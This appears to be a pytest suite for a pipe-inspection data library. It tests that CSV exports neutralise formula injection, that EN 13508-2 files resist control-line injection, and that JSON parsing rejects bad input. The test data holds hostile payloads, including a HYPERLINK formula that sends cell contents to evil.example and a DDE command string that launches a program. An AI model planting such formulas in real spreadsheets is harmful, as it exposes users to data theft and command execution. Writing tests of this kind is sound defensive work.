"""Exports that hostile text cannot subvert: formula injection in the CSV files
(OWASP "CSV Injection"), line injection in the EN 13508-2 exchange file, user rows of
observations.csv kept as written, and the JSON parser's type checks."""

from __future__ import annotations

import csv
import io
import math

import pytest

from pipestitch.standards import (
    Observation,
    Survey,
    parse_en13508,
    parse_json,
    parse_observations_csv,
    parse_pacp_csv,
    write_en13508,
    write_observations_csv,
    write_pacp_csv,
)
from pipestitch.standards.en13508 import field_text
from pipestitch.standards.observations import (
    neutralise_cell,
    read_observations_file,
    restore_cell,
    user_rows,
)

SURVEY = Survey("pipe 7", "2026-11-23", "14:30", 12.5, 65, "imu")
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _cells(text: str) -> list[list[str]]:
    """The cells as a spreadsheet's CSV import sees them (no un-escaping of ours)."""
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(("text", "written"), [
    ("=1+1", "'=1+1"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("@SUM(1+1)", "'@SUM(1+1)"),
    ("-2+3", "'-2+3"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("'=1", "''=1"), ("''@x", "'''@x"),                       # already quoted: one more
    ("plain", "plain"), ("'s Hertogenbosch", "'s Hertogenbosch"), ("", ""), ("'", "'"),
    (" =1", " =1"), ("a=1", "a=1"),
])
def test_neutralise_cell_and_back(text: str, written: str) -> None:
    assert neutralise_cell(text) == written
    assert restore_cell(written) == text


PACP_FORMULAS = Observation(0.5, "BAF", "Z", quant1=-3, quant2=-12, remark=HYPERLINK,
                            clock_from=2, continuous="-S01", ref="@SUM(1+1)")


def test_pacp_csv_neutralises_formulas_and_reads_them_back() -> None:
    text = write_pacp_csv([PACP_FORMULAS, Observation(1.0, "BDB", remark="+cmd|' /C calc'!A0",
                                                      ref="\tx")])
    rows = _cells(text)
    header = rows[0]
    for row in rows[1:]:
        for name, cell in zip(header, row, strict=True):
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
            assert not cell.startswith("-") or name.startswith("Value_"), (name, cell)
    # Prefixed cells are quoted; the quotes inside doubled.
    assert "\"'=HYPERLINK(\"\"http" in text and "\"'@SUM(1+1)\"" in text
    assert "\"'-S01\"" in text and "\"'+cmd|' /C calc'!A0\"" in text
    # Negative quantities are numbers, written as numbers.
    first = dict(zip(header, rows[1], strict=True))
    assert (first["Value_1st_Dimension_mm"], first["Value_2nd_Dimension_mm"]) == ("-3", "-12")
    assert ",-3,-12," in text.splitlines()[1]
    obs = parse_pacp_csv(text)
    assert obs[0] == PACP_FORMULAS and obs[1].remark == "+cmd|' /C calc'!A0"
    assert obs[1].ref == "\tx"


def test_pacp_parser_reads_a_prefixed_number() -> None:
    text = write_pacp_csv([Observation(0.5, "BAF", "Z", quant1=-3)]).replace(",-3,", ",'-3,")
    assert parse_pacp_csv(text)[0].quant1 == -3


def test_observations_csv_neutralises_formulas_and_round_trips() -> None:
    obs = [PACP_FORMULAS, Observation(2.0, "BDB", remark="a\rb", ref="-1")]
    text = write_observations_csv(obs)
    assert "\"'=HYPERLINK(" in text and ",\"'-1\"\n" in text and ",-3,-12," in text
    for row in _cells(text)[1:]:
        assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in row)
    # A lone CR in a remark is quoted (csv.writer left it bare: the row split in two).
    assert len(_cells(text)) == 3
    assert parse_observations_csv(text) == obs


def test_en13508_values_cannot_inject_lines() -> None:
    remark = "x\n#Z\n#B01=injected;x\r\n#C=I;A\x0c#Z\u2028#Z\x85#Z"
    survey = Survey("#Z", "2026-11-23", "14:30", 12.5, 65, "imu\n#Z")
    o = Observation(1.0, "BAF", "Z", remark=remark, ref="#A1=UTF-8")
    text = write_en13508([(survey, [o])])
    control = [line for line in text.splitlines() if line.lstrip().startswith("#")]
    assert control == ["#A1=ISO-8859-1", "#A2=en", "#A3=;", "#A4=.", '#A5="', "#A6=2010",
                       "#B01=AAA;ABA;ABF;ABG;ABQ;ACB;ACC;ADE", "#C=I;A;B;C;D;E;F;G;H;J;M",
                       "#Z"]
    assert len(text.splitlines()) == 11
    [(back_survey, [back])] = parse_en13508(text)
    assert back.remark == "x #Z #B01=injected;x  #C=I;A #Z #Z #Z" == field_text(remark)
    assert back.ref == "#A1=UTF-8" and back_survey.pipe_ref == "#Z"
    assert back_survey.reference == "imu #Z"
    # Also once encoded as the pipeline writes it (ISO-8859-1, "?" for the rest).
    latin = text.encode("latin-1", errors="replace").decode("latin-1")
    assert parse_en13508(latin)[0][1][0].remark == field_text(remark).replace("\u2028", "?")


def test_en13508_separator_and_quotes_round_trip_exactly() -> None:
    o = Observation(1.0, "BAF", "Z", remark='a;b "c";; "', ref=' #not a control line')
    [(_, [back])] = parse_en13508(write_en13508([(SURVEY, [o])]))
    assert back == o


@pytest.mark.parametrize("text", ["#A1=x\n#B\n", "#A3=;;\n#B01=AAA\nx\n#Z\n",
                                  "#A5=ab\n#B01=AAA\nx\n#Z\n"])
def test_en13508_parser_reports_malformed_control_lines(text: str) -> None:
    with pytest.raises(ValueError, match="line 2"):
        parse_en13508(text)


# --- user rows of observations.csv, as written ------------------------------------------

HEADER = "distance_m,code,char1,char2,quant1,quant2,remark,clock_from,clock_to,continuous,ref"
USER_ROWS = ['1.23456,BDB,,,,,precise distance,,,,mine\r\n',
             '0.5,BAF,Z,,,,13 fields,3,,,mine 2,extra,more\n',
             '2.0,BDB,,,,,"two\nlines, ""quoted""",,,,mine 3\n',
             '3,BDB,,,,,=typed by the user,,,,mine 4']        # last line, no line end


def test_user_rows_are_kept_byte_for_byte() -> None:
    earlier = (HEADER + "\n" + "0.7,BAC,B,,5,,hole,3,,,auto:D1\n" + "".join(USER_ROWS))
    file = read_observations_file(earlier)
    assert [r.line for r in file.rows] == [2, 3, 4, 5, 7]
    assert [r.text for r in user_rows(file)] == USER_ROWS
    new = [Observation(0.6, "BAC", "B", quant1=5, remark="hole", clock_from=3, ref="auto:D1"),
           Observation(4.0, "BAF", "Z", quant1=9, remark="spot", ref="auto:D2")]
    text = write_observations_csv(new, keep=file)
    assert text == (HEADER + "\n" + USER_ROWS[1] + "0.60,BAC,B,,5,,hole,3,,,auto:D1\n"
                    + USER_ROWS[0] + USER_ROWS[2] + USER_ROWS[3] + "\n"
                    + "4.00,BAF,Z,,9,,spot,,,,auto:D2\n")
    assert [o.distance_m for o in parse_observations_csv(text)] == [0.5, 0.6, 1.23, 2.0, 3.0, 4.0]
    # Kept again on the next re-coding: nothing changes.
    assert write_observations_csv(new, keep=read_observations_file(text)) == text


def test_kept_rows_keep_the_header_and_its_line_ends() -> None:
    earlier = "\ufeff" + HEADER + ",inspector\r\n" + "1.0,BDB,,,,,note,,,,mine,Ann\r\n"
    new = [Observation(0.5, "BAF", "Z", remark="spot", ref="auto:D1")]
    text = write_observations_csv(new, keep=read_observations_file(earlier))
    assert text == ("\ufeff" + HEADER + ",inspector\r\n" + "0.50,BAF,Z,,,,spot,,,,auto:D1\r\n"
                    + "1.0,BDB,,,,,note,,,,mine,Ann\r\n")


def test_user_rows_under_another_header_are_refused() -> None:
    earlier = "code,distance_m,ref\nBDB,1.0,mine\n"
    file = read_observations_file(earlier)
    with pytest.raises(ValueError, match=r"line 1: the columns .* \(line 2, \.\.\.\)"):
        write_observations_csv([], keep=file)
    # Without user rows there is nothing to keep: the file is written afresh.
    only_auto = read_observations_file("code,distance_m,ref\nBDB,1.0,auto:D1\n")
    assert write_observations_csv([], keep=only_auto) == HEADER + "\n"


def test_observations_csv_errors_name_the_first_line_of_the_record() -> None:
    with pytest.raises(ValueError, match="line 2: clock_from"):
        parse_observations_csv(HEADER + '\n1.0,BDB,,,,,"two\nlines",13,,,x\n')
    with pytest.raises(ValueError, match="line 1: missing column"):
        parse_observations_csv("")


# --- JSON ---------------------------------------------------------------------------------

@pytest.mark.parametrize("doc", [
    '{"format": "pipestitch-observations/1", "survey": [], "observations": []}',
    '{"format": "pipestitch-observations/1", "observations": [1]}',
    '{"format": "pipestitch-observations/1", "observations": {"a": 1}}',
    '{"format": "pipestitch-observations/1", "survey": {"pipe_ref": "p", "date": "d", '
    '"time": "t", "length_m": 1, "nominal_diameter_mm": 65, "reference": "r"}, '
    '"observations": [{"distance_m": 1, "code": 5}]}',
    '{"format": "pipestitch-observations/1", "survey": {"pipe_ref": "p", "date": "d", '
    '"time": "t", "length_m": 1, "nominal_diameter_mm": 65, "reference": "r"}, '
    '"observations": [{"distance_m": 1e999, "code": "BAC"}]}',
    '{"format": "pipestitch-observations/1", "survey": {"pipe_ref": "p", "date": "d", '
    '"time": "t", "length_m": 1, "nominal_diameter_mm": 65, "reference": "r"}, '
    '"observations": [{"distance_m": 1' + "0" * 400 + ', "code": "BAC"}]}',
    '{"format": "pipestitch-observations/1", "survey": {"pipe_ref": true}}',
    "[" * 100000,
])
def test_json_parser_rejects_bad_records_with_value_error(doc: str) -> None:
    with pytest.raises(ValueError):
        parse_json(doc)


def test_json_null_length_is_nan() -> None:
    doc = ('{"format": "pipestitch-observations/1", "survey": {"pipe_ref": "p", "date": "d", '
           '"time": "t", "length_m": null, "nominal_diameter_mm": 65, "reference": "r"}}')
    survey, obs = parse_json(doc)
    assert math.isnan(survey.length_m) and obs == []
